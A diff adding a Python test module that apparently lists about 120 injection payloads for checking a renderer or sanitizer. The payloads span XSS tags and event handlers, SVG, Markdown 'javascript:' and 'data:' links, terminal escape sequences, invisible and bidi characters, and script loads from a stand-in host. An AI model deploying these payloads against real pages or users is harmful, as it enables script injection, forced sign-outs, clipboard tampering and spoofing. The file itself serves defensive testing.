@@ -1,0 +1,153 @@
+"""What somebody may write to run, load, hide or break something in the browser of who reads it: 124 of them.
+
+Each holds a word of its own, `zq` and a number, that must be there to be read.
+"""
+
+from typing import Final
+
+ELSEWHERE: Final = "https://elsewhere.invalid"
+
+_TEMPLATES: Final = (
+    # Tags and attributes that run
+    "<script>alert({})</script>",
+    "<ScRiPt>alert({})</sCrIpT>",
+    "<script src=E/{}.js></script>",
+    "<script\n>alert({})</script\n>",
+    "<script/{}>alert(1)</script>",
+    "<<script>alert({});//<</script>",
+    "</title><script>alert({})</script>",
+    "</textarea><script>alert({})</script>",
+    "</pre></code><script>alert({})</script>",
+    "--><script>alert({})</script><!--",
+    "]]><script>alert({})</script>",
+    "<img src=x onerror=alert({})>",
+    "<img src=E/{}.png>",
+    "<img srcset='E/{}.png 1x'>",
+    "<img src=`x`onerror=alert({})>",
+    "<img/src='x'/onerror='alert({})'>",
+    "<image src=x onerror=alert({})>",
+    "<picture><source srcset=E/{}.webp></picture>",
+    "<video src=E/{}.mp4 autoplay onloadstart=alert(1)></video>",
+    "<video><source onerror=alert({})></video>",
+    "<audio src=E/{}.mp3 autoplay></audio>",
+    "<body onload=alert({})>",
+    "<iframe src='javascript:alert({})'></iframe>",
+    "<iframe srcdoc='<script>alert({})</script>'></iframe>",
+    "<iframe src=E/{}></iframe>",
+    "<frameset><frame src=E/{}></frameset>",
+    "<object data=E/{}.swf></object>",
+    "<embed src=E/{}.swf>",
+    "<applet code=E/{}></applet>",
+    "<link rel=stylesheet href=E/{}.css>",
+    "<link rel=prefetch href=E/{}>",
+    "<link rel=dns-prefetch href=//{}.elsewhere.invalid>",
+    "<meta http-equiv=refresh content='0;url=E/{}'>",
+    "<base href=E/{}/>",
+    "<style>@import 'E/{}.css';</style>",
+    "<style>body{{background:url(E/{}.png)}}</style>",
+    "<div style='background:url(E/{}.png)'>",
+    "<div style='position:fixed;inset:0;z-index:9999'>{}</div>",
+    "<p onmouseover=alert({}) onclick=alert(1)>move here</p>",
+    "<details open ontoggle=alert({})>",
+    "<input autofocus onfocus=alert({})>",
+    "<select autofocus onfocus=alert({})>",
+    "<textarea autofocus onfocus=alert({})>",
+    "<button formaction='javascript:alert({})'>go</button>",
+    "<form action=E/{}><input type=submit></form>",
+    "<marquee onstart=alert({})>",
+    "<isindex action=javascript:alert({})>",
+    "<a href='javascript:alert({})' autofocus onfocus=alert(1)>a</a>",
+    "<a ping=E/{} href=/>ping</a>",
+    "<template><script>alert({})</script></template>",
+    "<noscript><p title='</noscript><img src=x onerror=alert({})>'>",
+    "<math><mtext><table><mglyph><style><img src=x onerror=alert({})>",
+    "<xmp><script>alert({})</script></xmp>",
+    "<plaintext>{}",
+    "<div id=stepList class='step' data-step='1'>{}</div>",
+    "<div hx-get='/sign-out' hx-trigger='load'>{}</div>",
+    "<div data-hx-post='/theme' data-hx-trigger='load'>{}</div>",
+    "<dialog open>{}</dialog>",
+    # SVG
+    "<svg onload=alert({})>",
+    "<svg><script>alert({})</script></svg>",
+    "<svg><script xlink:href=E/{}.js /></svg>",
+    "<svg><image href=E/{}.png /></svg>",
+    "<svg><use href='E/{}.svg#x' /></svg>",
+    "<svg><a xlink:href='javascript:alert({})'><text>go</text></a></svg>",
+    "<svg><animate onbegin=alert({}) attributeName=x dur=1s>",
+    "<svg><set attributeName=onmouseover to=alert({})>",
+    "<svg><foreignObject><iframe src=E/{}></iframe></foreignObject></svg>",
+    "<svg><style>@import 'E/{}.css'</style></svg>",
+    "<svg><feImage href=E/{}.png /></svg>",
+    # Markdown
+    "![{}](E/a.png)",
+    "![{}][r]\n\n[r]: E/b.png",
+    "[![{}](E/c.png)](E/d)",
+    "[{}](javascript:alert(1))",
+    "[{}](JaVaScRiPt:alert(1))",
+    "[{}](java\nscript:alert(1))",
+    "[{}](java&#x09;script:alert(1))",
+    "[{}](&#106;avascript:alert(1))",
+    "[{}](javascript&colon;alert(1))",
+    "[{}](\x01javascript:alert(1))",
+    "[{}](vbscript:msgbox(1))",
+    "[{}](data:text/html,<script>alert(1)</script>)",
+    "[{}](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "[{}](file:///etc/passwd)",
+    "[{}](//elsewhere.invalid/a)",
+    "[{}](/sign-out)",
+    "[{}](?step=1#stepList)",
+    "[{}](blob:https://elsewhere.invalid/1)",
+    "<javascript:alert({})>",
+    "<E/{}>",
+    "[{}]: javascript:alert(1)\n\n[{}]",
+    "[{}](E \"' onmouseover=alert(1) x='\")",
+    "[{}](E' onmouseover='alert(1)",
+    "`<script>alert({})</script>`",
+    "```html\n<script>alert({})</script>\n```",
+    '```x"onmouseover=alert(1)\n{}\n```',
+    "```</code></pre><script>alert(1)</script>\n{}\n```",
+    "| a |\n|---|\n| <img src=x onerror=alert({})> |",
+    "# <script>alert({})</script>",
+    "> > > > > > > > > > > > > > > > > > > > > > > > > > > > > {}",
+    "- - - - - - - - - - - - - - - - - - - - - - - - - - - - - {}",
+    "{} " + "[" * 400,
+    "{} " + "![" * 400,
+    "{} " + "*a_ " * 400,
+    "{} " + "<" * 400,
+    "{} " + "`" * 401,
+    "{} " + "&#x110000; " * 20,
+    "[^{}]: footnote\n\n[^{}]",
+    "<!--{}--><script>alert(1)</script>",
+    "<?php echo {} ?>",
+    "<![CDATA[<script>alert({})</script>]]>",
+    # Terminals
+    "\x1b]0;{}\x07title",
+    "\x1b]8;;E/{}\x1b\\link\x1b]8;;\x1b\\",
+    "\x1b]52;c;{}\x07",
+    "\x1b[2J\x1b[H{}",
+    "\x1b[31m<script>alert({})</script>\x1b[0m",
+    '\x1b[38;5;1"onmouseover=alert(1)m{}',
+    "\x9b31m{}\x90q\x9c",
+    "\x1bP+q{}\x1b\\",
+    # What is not seen, or turns what is
+    "\u202e{}\u202c gpj.exe",
+    "\u2066{}\u2069",
+    "a\x00b{}\x08\x08\x7f",
+    "\ufeff\u200b{}\u200b",
+    "\ud83d{}\udc00",
+    "{{{{ {} }}}} {{% raw %}} ${{alert(1)}}",
+)
+
+
+def word(number: int) -> str:
+    """What must be there to read of an attack."""
+    return f"zq{number}q"
+
+
+ATTACKS: Final = tuple(
+    template.replace("E/", f"{ELSEWHERE}/")
+    .replace("(E", f"({ELSEWHERE}")
+    .format(*(word(number),) * template.count("{}"))
+    for number, template in enumerate(_TEMPLATES)
+)
